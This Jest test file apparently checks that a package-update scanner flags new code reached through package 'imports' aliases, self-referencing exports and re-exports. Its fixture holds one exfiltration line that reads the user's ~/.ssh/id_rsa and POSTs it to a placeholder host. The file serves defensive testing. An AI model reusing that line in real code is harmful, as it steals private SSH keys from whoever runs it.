import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const takes = `const fs = require('fs'); exports.go = () => fetch('https://in.invalid', { method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa') });`;
const old = { 'index.js': 'exports.a = 1' };
const gradeOf = async (files: Readonly<Record<string, string>>, manifest: Readonly<Record<string, unknown>>) =>
  (await gradesOf(old, { ...files, 'lib/own.js': takes }, manifest)).import.grade;

describe('a file of the package called by a name', () => {
  const imports = { '#own': { types: './own.d.ts', default: './lib/own.js' }, '#lib/*': './lib/*.js', '#x/*.mjs': './*.js' };

  it.each([
    ['require', { 'index.js': "require('#own').go()" }],
    ['a pattern', { 'index.js': "const { go } = require('#lib/own'); go()" }],
    ['what stands around the star', { 'index.js': "require('#x/lib/own.mjs').go()" }],
    ['import', { 'index.js': "import { go as start } from '#own'; start()" }],
    ['import later', { 'index.js': "import('#own').then((own) => own.go())" }],
    ['through another', { 'index.js': "require('./mid').go()", 'mid.js': "exports.go = require('#own').go" }],
  ])('of its imports runs: %s', async (_, files) => {
    expect(await gradeOf(files, { imports })).toBe('convicts');
  });

  it('that is the name of the package runs', async () => {
    const manifest = { name: 'own', exports: { '.': './index.js', './lib/own': './lib/own.js', './mid': './mid.js' } };
    expect(await gradeOf({ 'index.js': "require('own/lib/own').go()" }, manifest)).toBe('convicts');
    const through = { 'index.js': "require('own/mid').go()", 'mid.js': "exports.go = require('./lib/own').go" };
    expect(await gradeOf(through, manifest)).toBe('convicts');
  });

  it('only loaded waits', async () => {
    expect(await gradeOf({ 'index.js': "exports.own = require('#own')" }, { imports })).toBe('weak');
    expect(await gradeOf({ 'index.js': "exports.go = () => require('#own').go()" }, { imports })).toBe('weak');
  });
});
